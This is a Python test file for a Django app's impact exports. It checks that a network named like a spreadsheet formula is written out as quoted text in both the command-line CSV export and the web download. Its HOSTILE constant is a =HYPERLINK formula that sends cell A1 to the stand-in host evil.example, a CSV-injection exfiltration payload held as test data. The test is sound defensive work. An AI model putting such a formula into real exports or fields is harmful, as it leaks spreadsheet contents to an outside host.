"""Issue 20, item 2, for the impact exports (the page's CSV and `kindred impact --export`): a
network named like a formula is written as text."""

import csv
import io
from io import StringIO

import numpy as np
import pytest
from django.core.management import call_command
from django.test import Client

from kindred.networks.models import Membership, Network

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_a_network_named_like_a_formula_is_text_in_both_impact_exports(
    planted, school_x, teacher_x, tmp_path
):
    programme, networks = planted
    network = networks[int(programme.unit[np.flatnonzero(programme.panel.joined == 3)[0]])]
    Network.objects.filter(pk=network.pk).update(name=HOSTILE)
    Membership.objects.create(network=network, school=school_x)
    export = tmp_path / "impact.csv"
    call_command("impact", network=network.pk, export=export, stdout=StringIO())
    call_command("impact", recompute=True, stdout=StringIO())
    client = Client()
    client.force_login(teacher_x)
    download = client.get(f"/impact/networks/{network.pk}/effects.csv").content.decode()
    for text in (export.read_text(encoding="utf-8"), download):
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[1][0] == "'" + HOSTILE
        assert not any(cell.startswith("=") for row in rows for cell in row)
